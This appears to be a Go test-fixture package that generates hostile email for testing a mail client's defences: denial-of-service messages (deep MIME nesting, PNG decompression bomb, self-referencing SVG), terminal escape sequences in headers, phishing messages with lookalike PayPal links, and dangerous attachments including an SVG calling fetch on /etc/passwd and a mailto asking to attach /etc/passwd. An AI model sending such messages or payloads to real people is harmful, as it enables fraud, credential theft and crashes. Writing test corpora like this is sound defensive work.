// Package hostile generates mail that a stranger could send to crash,
// stall or fool a mail client: unterminated and very deep MIME nesting,
// huge messages (streamed, never held in memory), control characters in
// headers, executables disguised by padding, phishing links (text that
// names another site, a user part before the host, a subdomain that
// names another site), lookalike host names, two senders in one From,
// an empty From, files of every dangerous kind, 30,000 References, a
// deeply quoted text of 2 MB, an SVG that references itself and a PNG
// that declares a huge canvas.
//
// Every generator is deterministic, so a failure can be reproduced, and
// returns (or writes) a complete RFC 5322 message with CRLF line ends.
// Tests of every layer — parser, store, command line and window — use the
// same corpus; All lists the small messages by name.
package hostile

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
	"sync"
)

// Date is the date every corpus message carries (RFC 5322 form); a test
// that needs another order replaces it.
const Date = "Mon, 2 Mar 2026 10:00:00 +0000"

// header writes a plain header block with the given subject and extra
// header lines (each without its line end).
func header(b *bytes.Buffer, subject string, extra ...string) {
	b.WriteString("From: Stranger <stranger@example.com>\r\n")
	b.WriteString("To: Reader <reader@example.org>\r\n")
	b.WriteString("Subject: " + subject + "\r\n")
	b.WriteString("Date: " + Date + "\r\n")
	b.WriteString("Message-ID: <hostile." + strings.ReplaceAll(strings.ToLower(subject), " ", "-") + "@example.com>\r\n")
	b.WriteString("MIME-Version: 1.0\r\n")
	for _, l := range extra {
		b.WriteString(l + "\r\n")
	}
}

// UnterminatedNesting returns a message of depth nested multipart/mixed
// parts none of which has its closing delimiter. Parsers that retry a
// multipart without its end as something else take time doubling with
// each level: at 26 levels a naive parser spends most of a minute.
func UnterminatedNesting(depth int) []byte {
	return nesting(fmt.Sprintf("Unterminated nesting %d", depth), depth, true).Bytes()
}

// HiddenDelimiterNesting is UnterminatedNesting with each level's first
// delimiter written after other text on its line ("x--lvl00001 "): RFC 2046
// does not count such a line, but lenient parsers take the first delimiter
// of a multipart from anywhere in a line of its preamble, and then spend
// the same doubling time on the unclosed parts.
func HiddenDelimiterNesting(depth int) []byte {
	var b bytes.Buffer
	header(&b, fmt.Sprintf("Hidden delimiters %d", depth), `Content-Type: multipart/mixed; boundary="`+boundary(0)+`"`)
	b.WriteString("\r\n")
	for i := 1; i <= depth; i++ {
		fmt.Fprintf(&b, "x--%s \r\nContent-Type: multipart/mixed; boundary=\"%s\"\r\n\r\npreamble %d\r\n", boundary(i-1), boundary(i), i)
	}
	fmt.Fprintf(&b, "x--%s \r\nContent-Type: text/plain\r\n\r\nThe innermost text.\r\n", boundary(depth))
	return b.Bytes()
}

// nesting writes a message of depth nested multipart/mixed parts (each
// with a line of preamble when preamble is set) down to one text part,
// without any closing delimiter.
func nesting(subject string, depth int, preamble bool) *bytes.Buffer {
	var b bytes.Buffer
	header(&b, subject, `Content-Type: multipart/mixed; boundary="`+boundary(0)+`"`)
	b.WriteString("\r\n")
	for i := 1; i <= depth; i++ {
		fmt.Fprintf(&b, "--%s\r\nContent-Type: multipart/mixed; boundary=\"%s\"\r\n\r\n", boundary(i-1), boundary(i))
		if preamble {
			fmt.Fprintf(&b, "preamble %d\r\n", i)
		}
	}
	fmt.Fprintf(&b, "--%s\r\nContent-Type: text/plain\r\n\r\nThe innermost text.\r\n", boundary(depth))
	return &b
}

// boundary is the delimiter of nesting level i: all have the same length,
// so none is the beginning of another (RFC 2046 section 5.1.1).
func boundary(i int) string { return fmt.Sprintf("lvl%05d", i) }

// ClosedNesting returns a message of depth properly closed nested
// multipart/mixed parts around one text part. Parsers that copy each
// part's content once per level take time quadratic in depth: 8,000
// levels (about 550 KB) took 26 seconds.
func ClosedNesting(depth int) []byte {
	b := nesting(fmt.Sprintf("Closed nesting %d", depth), depth, false)
	for i := depth; i >= 0; i-- {
		fmt.Fprintf(b, "--%s--\r\n", boundary(i))
	}
	return b.Bytes()
}

// HugeSize is the size of the message Huge writes: over the 100 MB above
// which Tern keeps only a message's headers.
const HugeSize = 110 << 20

// Huge writes a message of size bytes (any size from a few hundred) to w
// without holding it in memory: a short text part and one base64
// attachment that fills the rest. It returns the number of bytes written.
func Huge(w io.Writer, size int64) (int64, error) {
	// 76 base64 characters per line encode 57 bytes.
	line := []byte(base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0xA5, 0x5A, 0x00}, 19)) + "\r\n")
	tail := []byte("--huge--\r\n")
	head := func(pad int) []byte {
		var b bytes.Buffer
		b.Write(HugeHeader())
		b.WriteString("--huge\r\nContent-Type: text/plain\r\n\r\nA very large attachment follows." + strings.Repeat(" ", pad) + "\r\n")
		b.WriteString("--huge\r\nContent-Type: application/octet-stream\r\n")
		b.WriteString("Content-Disposition: attachment; filename=\"big.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
		return b.Bytes()
	}
	// Trailing spaces in the text make the total come out exact.
	pad := int((size - int64(len(head(0))) - int64(len(tail))) % int64(len(line)))
	cw := &countWriter{w: w}
	if _, err := cw.Write(head(max(pad, 0))); err != nil {
		return cw.n, err
	}
	for cw.n+int64(len(line))+int64(len(tail)) <= size {
		if _, err := cw.Write(line); err != nil {
			return cw.n, err
		}
	}
	_, err := cw.Write(tail)
	return cw.n, err
}

// HugeHeader returns the first bytes Huge writes up to and including the
// blank line that ends the top-level header: what a client that keeps only
// the headers of a huge message stores.
func HugeHeader() []byte {
	var b bytes.Buffer
	header(&b, "Huge message", `Content-Type: multipart/mixed; boundary="huge"`)
	b.WriteString("\r\n")
	return b.Bytes()
}

type countWriter struct {
	w io.Writer
	n int64
}

func (c *countWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n += int64(n)
	return n, err
}

// HugeHeaderBlock returns a message whose header is about size bytes: one
// Subject and many long X-Padding lines.
func HugeHeaderBlock(size int) []byte {
	var b bytes.Buffer
	header(&b, "Huge header")
	pad := "X-Padding: " + strings.Repeat("x", 990) + "\r\n"
	for b.Len() < size {
		b.WriteString(pad)
	}
	b.WriteString("\r\nThe body after a huge header.\r\n")
	return b.Bytes()
}

// ControlSubject is the decoded subject of ControlCharacters: it clears the
// screen, sets the terminal title and rings the bell if printed raw.
const ControlSubject = "Hello\x1b[2J\x1b]0;pwned\x07 there\u202eexe.pdf"

// ControlCharacters returns a message whose subject (RFC 2047 encoded, so
// the control characters survive transport) carries terminal escape
// sequences and a right-to-left override, and whose From display name
// carries a newline followed by a forged "To:" line.
func ControlCharacters() []byte {
	var b bytes.Buffer
	enc := func(s string) string { return "=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?=" }
	b.WriteString("From: " + enc("Bank\r\nTo: you@bank.example") + " <stranger@example.com>\r\n")
	b.WriteString("To: Reader <reader@example.org>\r\n")
	b.WriteString("Subject: " + enc(ControlSubject) + "\r\n")
	b.WriteString("Date: " + Date + "\r\n")
	b.WriteString("Message-ID: <hostile.control@example.com>\r\n")
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n")
	b.WriteString("Body with an escape \x1b[31mred\x1b[0m and a bell \x07.\r\n")
	return b.Bytes()
}

// PaddedExecutableName is an attachment name that shows as a PDF in any
// field too narrow for 137 characters but is a Windows program.
var PaddedExecutableName = "Invoice-2026.pdf" + strings.Repeat(" ", 120) + ".exe"

// PaddedExecutable returns a message with one attachment named
// PaddedExecutableName and declared as application/pdf.
func PaddedExecutable() []byte {
	var b bytes.Buffer
	header(&b, "Your invoice", `Content-Type: multipart/mixed; boundary="pad"`)
	b.WriteString("\r\n--pad\r\nContent-Type: text/plain\r\n\r\nPlease find the invoice attached.\r\n")
	b.WriteString("--pad\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n")
	fmt.Fprintf(&b, "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n", PaddedExecutableName)
	b.WriteString(base64.StdEncoding.EncodeToString([]byte("MZ\x90\x00 this is not really a program")) + "\r\n")
	b.WriteString("--pad--\r\n")
	return b.Bytes()
}

// PhishingLinks returns an HTML message whose link texts are web addresses
// of one site while their targets are another, whose sender's display
// name embeds a different address than the one it was sent from, whose
// replies go elsewhere (Reply-To), and with a mailto: link that asks for
// a blind copy and an attachment.
func PhishingLinks() []byte {
	var b bytes.Buffer
	b.WriteString("From: \"PayPal <service@paypal.com>\" <evil@attacker.example>\r\n")
	b.WriteString("Reply-To: refunds@elsewhere.example\r\n")
	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Your account is limited\r\n")
	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.phishing@example.com>\r\n")
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
	b.WriteString(`<p>Please confirm your details at <a href="https://attacker.example/login">https://www.paypal.com/signin</a>.</p>` + "\r\n")
	b.WriteString(`<p><a href="http://10.0.0.1/">Click here</a> or <a href="https://xn--pypal-4ve.com/">www.paypal.com</a>.</p>` + "\r\n")
	b.WriteString(`<p>Read <a href="https://help.example.org/faq">our help</a>, visit <a href="https://` + LookalikeHost + `/">https://` +
		LookalikeHost + `/</a> or <a href="mailto:support@example.org?subject=Help&amp;cc=boss@example.org&amp;bcc=spy@attacker.example` +
		`&amp;attach=/etc/passwd&amp;body=Hi%0Athere">write</a>.</p>` + "\r\n")
	return b.Bytes()
}

// LookalikeHost is a host name with a Cyrillic "а" (U+0430) in place of the
// Latin "a": it reads as paypal.com.
const LookalikeHost = "p\u0430ypal.com"

// LookalikeSender returns a message sent from an address at LookalikeHost
// with a link to the same host.
func LookalikeSender() []byte {
	var b bytes.Buffer
	b.WriteString("From: PayPal <service@" + LookalikeHost + ">\r\n")
	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Security notice\r\n")
	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.lookalike@example.com>\r\n")
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
	b.WriteString(`<p>Sign in at <a href="https://` + LookalikeHost + `/signin">https://` + LookalikeHost + `/signin</a>.</p>` + "\r\n")
	return b.Bytes()
}

// SelfReferencingSVG is an SVG image whose <use> element refers to its own
// group: a renderer that follows references without a limit recurses
// until the stack overflows, which a Go program cannot recover from.
const SelfReferencingSVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">` +
	`<g id="loop"><use xlink:href="#loop" href="#loop"/></g></svg>`

// InlineSVGLoop returns an HTML message showing SelfReferencingSVG twice
// by cid: as an inline image/svg+xml part, and as a part that declares
// itself image/png.
func InlineSVGLoop() []byte {
	var b bytes.Buffer
	header(&b, "Inline SVG loop", `Content-Type: multipart/related; boundary="svg"`)
	b.WriteString("\r\n--svg\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
	b.WriteString(`<p>Logo: <img src="cid:loop@example.com" alt="logo"> <img src="cid:disguised@example.com" alt="photo"></p>` + "\r\n")
	b.WriteString("--svg\r\nContent-Type: image/svg+xml\r\nContent-ID: <loop@example.com>\r\n")
	b.WriteString("Content-Disposition: inline; filename=\"logo.svg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	b.WriteString(wrap76(base64.StdEncoding.EncodeToString([]byte(SelfReferencingSVG))))
	// The same SVG declared as a PNG: a window that trusts the declared
	// type hands it to the SVG decoder all the same.
	b.WriteString("--svg\r\nContent-Type: image/png\r\nContent-ID: <disguised@example.com>\r\n")
	b.WriteString("Content-Disposition: inline; filename=\"photo.png\"\r\n\r\n")
	b.WriteString(SelfReferencingSVG + "\r\n")
	b.WriteString("--svg--\r\n")
	return b.Bytes()
}

// PNGBomb returns a valid PNG of width × height black grayscale pixels.
// Its compressed data is small (about 560 KB at 12,000 × 12,000) but it
// decodes to width × height bytes or more. Each size is made once per
// process (compressing 144 million pixels takes a second); callers share
// the slice and must not change it.
func PNGBomb(width, height int) []byte {
	key := [2]int{width, height}
	if b, ok := bombs.Load(key); ok {
		return b.([]byte)
	}
	b, _ := bombs.LoadOrStore(key, makePNGBomb(width, height))
	return b.([]byte)
}

// bombs holds the PNG bombs made so far, by size.
var bombs sync.Map

func makePNGBomb(width, height int) []byte {
	var out bytes.Buffer
	out.Write([]byte("\x89PNG\r\n\x1a\n"))
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], uint32(width))
	binary.BigEndian.PutUint32(ihdr[4:], uint32(height))
	ihdr[8] = 8 // bit depth; colour type 0 (grayscale), deflate, filter 0, no interlace
	chunk(&out, "IHDR", ihdr)
	chunk(&out, "IDAT", zeroRows(width, height))
	chunk(&out, "IEND", nil)
	return out.Bytes()
}

// zeroRows returns a zlib stream of height rows of filter byte 0 and width
// zero bytes.
func zeroRows(width, height int) []byte {
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	row := make([]byte, width+1)
	for i := 0; i < height; i++ {
		w.Write(row)
	}
	w.Close()
	return z.Bytes()
}

// chunk writes one PNG chunk with its CRC.
func chunk(out *bytes.Buffer, typ string, data []byte) {
	var n [4]byte
	binary.BigEndian.PutUint32(n[:], uint32(len(data)))
	out.Write(n[:])
	crc := crc32.NewIEEE()
	crc.Write([]byte(typ))
	crc.Write(data)
	out.WriteString(typ)
	out.Write(data)
	binary.BigEndian.PutUint32(n[:], crc.Sum32())
	out.Write(n[:])
}

// InlinePNGBomb returns an HTML message showing PNGBomb(12000, 12000) as
// an inline image referenced by cid.
func InlinePNGBomb() []byte {
	var b bytes.Buffer
	header(&b, "PNG bomb", `Content-Type: multipart/related; boundary="png"`)
	b.WriteString("\r\n--png\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
	b.WriteString(`<p>Photo: <img src="cid:bomb@example.com"></p>` + "\r\n")
	b.WriteString("--png\r\nContent-Type: image/png\r\nContent-ID: <bomb@example.com>\r\n")
	b.WriteString("Content-Disposition: inline; filename=\"photo.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	b.WriteString(wrap76(base64.StdEncoding.EncodeToString(PNGBomb(12000, 12000))))
	b.WriteString("--png--\r\n")
	return b.Bytes()
}

// LargePictures returns an HTML message showing four inline PNG
// pictures of 6,000 × 6,000 pixels each: every one is within the limit
// of a single picture, but together they would decode to 144 million
// pixels.
func LargePictures() []byte {
	var b bytes.Buffer
	header(&b, "Four large pictures", `Content-Type: multipart/related; boundary="pics"`)
	b.WriteString("\r\n--pics\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>")
	for i := 1; i <= 4; i++ {
		fmt.Fprintf(&b, `<img src="cid:p%d@example.com" alt="picture %d">`, i, i)
	}
	b.WriteString("</p>\r\n")
	pic := wrap76(base64.StdEncoding.EncodeToString(PNGBomb(6000, 6000)))
	for i := 1; i <= 4; i++ {
		fmt.Fprintf(&b, "--pics\r\nContent-Type: image/png\r\nContent-ID: <p%d@example.com>\r\n", i)
		b.WriteString("Content-Disposition: inline; filename=\"picture.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
		b.WriteString(pic)
	}
	b.WriteString("--pics--\r\n")
	return b.Bytes()
}

// DeepHTML returns an HTML message whose text sits inside depth levels of
// nested elements: a renderer that recurses per element runs out of
// stack, one that copies styles per level runs out of time.
func DeepHTML(depth int) []byte {
	var b bytes.Buffer
	header(&b, fmt.Sprintf("Deep HTML %d", depth), "Content-Type: text/html; charset=utf-8")
	b.WriteString("\r\n")
	b.WriteString(strings.Repeat("<div><b><i>", depth) + "deep" + strings.Repeat("</i></b></div>", depth) + "\r\n")
	return b.Bytes()
}

// TwoSenders returns a message whose From names two people, the one the
// reader trusts first, and whose Sender is the second: a list that shows
// only the first name hides who else a reply goes to.
func TwoSenders() []byte {
	var b bytes.Buffer
	b.WriteString("From: CEO <ceo@corp.example>, Mallory <mallory@evil.example>\r\n")
	b.WriteString("Sender: mallory@evil.example\r\n")
	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Wire transfer today\r\n")
	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.two-senders@example.com>\r\n")
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n")
	b.WriteString("Please wire the money before noon and reply to confirm.\r\n")
	return b.Bytes()
}

// UserPartLink is a link whose host is evil.example but which reads, up to
// its "@", as PayPal's address.
const UserPartLink = "https://www.paypal.com@evil.example/signin"

// UserPartLinks returns an HTML message with UserPartLink as both its
// text and its target.
func UserPartLinks() []byte {
	var b bytes.Buffer
	header(&b, "Confirm your PayPal account", "Content-Type: text/html; charset=utf-8")
	b.WriteString("\r\n<p>Confirm at <a href=\"" + UserPartLink + "\">" + UserPartLink + "</a>.</p>\r\n")
	return b.Bytes()
}

// LookalikeSubdomainLink is a link on evil.example whose host begins with
// PayPal's name.
const LookalikeSubdomainLink = "https://paypal.com.secure-login.evil.example/signin"

// LookalikeSubdomain returns an HTML message with LookalikeSubdomainLink
// as both its text and its target.
func LookalikeSubdomain() []byte {
	var b bytes.Buffer
	header(&b, "Your PayPal statement", "Content-Type: text/html; charset=utf-8")
	b.WriteString("\r\n<p>See it at <a href=\"" + LookalikeSubdomainLink + "\">" + LookalikeSubdomainLink + "</a>.</p>\r\n")
	return b.Bytes()
}

// DangerousFile is one attachment of DangerousKinds.
type DangerousFile struct {
	Name, ContentType, Content string
}

// DangerousFiles are files a desktop runs, installs, connects with or
// opens in a browser with script, each of a kind that mail programs have
// let open after one question: named by extension, declared by type
// without an extension, or recognised by content only.
var DangerousFiles = []DangerousFile{
	{"office.rdp", "application/octet-stream", "full address:s:evil.example\r\n"},
	{"update.appinstaller", "application/xml", "<AppInstaller Uri=\"https://evil.example/a\"/>"},
	{"addin.vsto", "application/octet-stream", "<?xml version=\"1.0\"?><asmv1:assembly/>"},
	{"setup.ppkg", "application/octet-stream", "PK\x03\x04"},
	{"sandbox.wsb", "application/xml", "<Configuration><LogonCommand/></Configuration>"},
	{"prices.iqy", "text/plain", "WEB\r\n1\r\nhttps://evil.example/q\r\n"},
	{"sheet.slk", "text/plain", "ID;P\r\nC;Y1;X1;EEXEC(\"calc\")\r\nE\r\n"},
	{"page.mht", "message/rfc822", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>x()</script>"},
	{"page.mhtml", "application/x-mimearchive", "MIME-Version: 1.0\r\n"},
	{"desktop.ica", "application/octet-stream", "[ApplicationServers]\r\n"},
	{"app.flatpak", "application/octet-stream", "xdg-app\x00"},
	{"run.kdesktop", "text/plain", "[KDE Desktop Entry]\r\nExec=sh\r\n"},
	{"invoice.html", "text/html", "<html><body onload=\"location='https://evil.example/'\">Invoice</body></html>"},
	{"logo.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("file:///etc/passwd")</script></svg>`},
	{"setup", "application/x-ms-dos-executable", "MZ\x90\x00"},
	{"install", "text/x-shellscript", "#!/bin/sh\nexit 0\n"},
	{"photo.jpg", "image/jpeg", "\x7fELF\x02\x01\x01\x00"},
	{"readme.txt", "text/plain", "[Desktop Entry]\nType=Application\nExec=sh -c true\n"},
}

// DangerousKinds returns a message with every file of DangerousFiles
// attached, each in base64.
func DangerousKinds() []byte {
	var b bytes.Buffer
	header(&b, "Files for you", `Content-Type: multipart/mixed; boundary="kinds"`)
	b.WriteString("\r\n--kinds\r\nContent-Type: text/plain\r\n\r\nThe files are attached.\r\n")
	for _, f := range DangerousFiles {
		fmt.Fprintf(&b, "--kinds\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\n", f.ContentType)
		fmt.Fprintf(&b, "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n", f.Name)
		b.WriteString(wrap76(base64.StdEncoding.EncodeToString([]byte(f.Content))))
	}
	b.WriteString("--kinds--\r\n")
	return b.Bytes()
}

// ManyReferences returns a message whose References field lists n
// message ids (about 33 bytes each): a reply that copies them all has a
// header servers refuse.
func ManyReferences(n int) []byte {
	var b bytes.Buffer
	b.WriteString("References:")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, " <ref.%06d@thread.example.com>\r\n", i)
	}
	refs := strings.TrimSuffix(b.String(), "\r\n")
	var m bytes.Buffer
	header(&m, fmt.Sprintf("Many references %d", n), refs, "Content-Type: text/plain")
	m.WriteString("\r\nA reply to a very long thread.\r\n")
	return m.Bytes()
}

// DeeplyQuoted returns a message of about size bytes of text whose lines
// are quoted ever deeper, up to hundreds of ">" each: a reply that quotes
// it all, and wraps each long line under its quote marks, grows many
// times larger.
func DeeplyQuoted(size int) []byte {
	var b bytes.Buffer
	header(&b, fmt.Sprintf("Deeply quoted %d", size), "Content-Type: text/plain; charset=utf-8")
	b.WriteString("\r\n")
	for i := 0; b.Len() < size; i++ {
		fmt.Fprintf(&b, "%s line %d of a thread that went on for far too long, quoted again and again\r\n", strings.Repeat(">", i%400), i)
	}
	return b.Bytes()
}

// EmptyFrom returns a message whose From field is empty.
func EmptyFrom() []byte {
	var b bytes.Buffer
	b.WriteString("From: \r\nTo: Reader <reader@example.org>\r\nSubject: Nobody wrote this\r\n")
	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.empty-from@example.com>\r\n")
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nWho sent this?\r\n")
	return b.Bytes()
}

// wrap76 breaks base64 text into lines of 76 characters (RFC 2045
// section 6.8).
func wrap76(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\r\n")
		s = s[76:]
	}
	return b.String() + s + "\r\n"
}

// All returns every small hostile message by a short name: what a test
// that opens each one in turn iterates over. Huge is left out (it is
// written to a file with Huge).
func All() map[string][]byte {
	return map[string][]byte{
		"unterminated-26": UnterminatedNesting(26),
		"unterminated-60": UnterminatedNesting(60),
		"hidden-26":       HiddenDelimiterNesting(26),
		"closed-8000":     ClosedNesting(8000),
		"huge-header":     HugeHeaderBlock(2 << 20),
		"control":         ControlCharacters(),
		"padded-exe":      PaddedExecutable(),
		"phishing":        PhishingLinks(),
		"lookalike":       LookalikeSender(),
		"svg-loop":        InlineSVGLoop(),
		"png-bomb":        InlinePNGBomb(),
		"large-pictures":  LargePictures(),
		"deep-html":       DeepHTML(20000),
		"two-senders":     TwoSenders(),
		"user-part-link":  UserPartLinks(),
		"subdomain-link":  LookalikeSubdomain(),
		"dangerous-kinds": DangerousKinds(),
		"references":      ManyReferences(30000),
		"deeply-quoted":   DeeplyQuoted(2 << 20),
		"empty-from":      EmptyFrom(),
	}
}

// GarbagePicture returns an HTML message of about size bytes whose one
// inline picture (image/png, base64) is garbage: every other character
// of its lines is outside the base64 alphabet, so no decoder reads it
// cleanly. A 44 MB one took a MIME library four minutes and gigabytes.
func GarbagePicture(size int) []byte {
	var b bytes.Buffer
	header(&b, fmt.Sprintf("Garbage picture %d", size), `Content-Type: multipart/related; boundary="pic"`)
	b.WriteString("\r\n--pic\r\nContent-Type: text/html; charset=utf-8\r\n\r\n")
	b.WriteString("<p>A picture:</p><img src=\"cid:pic@example.com\">\r\n")
	b.WriteString("--pic\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n")
	b.WriteString("Content-ID: <pic@example.com>\r\nContent-Disposition: inline; filename=\"pic.png\"\r\n\r\n")
	const alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	line := make([]byte, 0, 78)
	for i := 0; b.Len() < size-16; i++ {
		line = line[:0]
		for j := 0; j < 76; j++ {
			if j%2 == 1 {
				line = append(line, "!*#%~.,;"[(i+j)%8])
			} else {
				line = append(line, alpha[(i*31+j*7)%64])
			}
		}
		b.Write(append(line, '\r', '\n'))
	}
	b.WriteString("--pic--\r\n")
	return b.Bytes()
}

// ManyAttachments returns a message with a short text and n tiny
// attachments (20,000 make about 1.9 MB): a reader that lists, or makes a
// widget for, every one freezes.
func ManyAttachments(n int) []byte {
	var b bytes.Buffer
	header(&b, fmt.Sprintf("Many attachments %d", n), `Content-Type: multipart/mixed; boundary="many"`)
	b.WriteString("\r\n--many\r\nContent-Type: text/plain\r\n\r\nMany files follow.\r\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "--many\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"f%05d.txt\"\r\n\r\n%d\r\n", i, i)
	}
	b.WriteString("--many--\r\n")
	return b.Bytes()
}

// LongLine returns a plain text message whose body is one line of about
// size bytes of words without a line break.
func LongLine(size int) []byte {
	var b bytes.Buffer
	header(&b, fmt.Sprintf("Long line %d", size), "Content-Type: text/plain; charset=utf-8")
	b.WriteString("\r\n")
	b.Grow(size)
	for b.Len() < size-2 {
		b.WriteString("word ")
	}
	b.WriteString("\r\n")
	return b.Bytes()
}
